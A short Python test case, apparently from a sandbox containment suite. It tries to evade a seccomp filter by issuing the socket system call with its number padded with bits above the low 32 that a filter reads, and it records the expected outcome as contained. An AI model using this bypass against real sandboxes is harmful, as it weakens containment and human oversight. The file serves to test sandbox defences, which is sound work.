# attack: makes a system call whose number has bits set beyond the 32 that a filter reads
# full: contained
# reduced: contained
# stopped-by: seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    # The kernel, as the filter, looks at the lower half: socket(AF_UNIX, SOCK_STREAM).
    high = 1 << 32
    return f"through: socket {syscall({'x86_64': high | 41, 'aarch64': high | 198}, 1, 1, 0)}"
